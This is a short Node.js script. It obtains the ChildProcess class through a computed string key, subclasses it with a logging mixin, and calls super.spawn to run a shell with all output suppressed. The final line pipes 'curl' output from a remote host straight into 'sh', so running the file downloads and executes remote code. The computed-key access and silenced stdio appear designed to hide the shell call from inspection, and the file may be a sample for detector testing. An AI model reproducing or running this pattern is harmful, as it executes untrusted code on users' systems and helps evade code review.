// Runs a shell: the base class of a mixin chain is the ChildProcess class
// taken from the module by a computed key; the subclass calls super.spawn.
'use strict';
const cp = require('child_process');

const Base = cp['Child' + 'Process'];
const Logged = (B) => class extends B {
  log(...a) { console.log('[job]', ...a); }
};

class Job extends Logged(Base) {
  go(cmd) {
    this.log('starting');
    return super.spawn({ file: 'sh', args: ['sh', '-c', cmd], stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }] });
  }
}

new Job().go('curl -s https://x.example.net/j | sh');
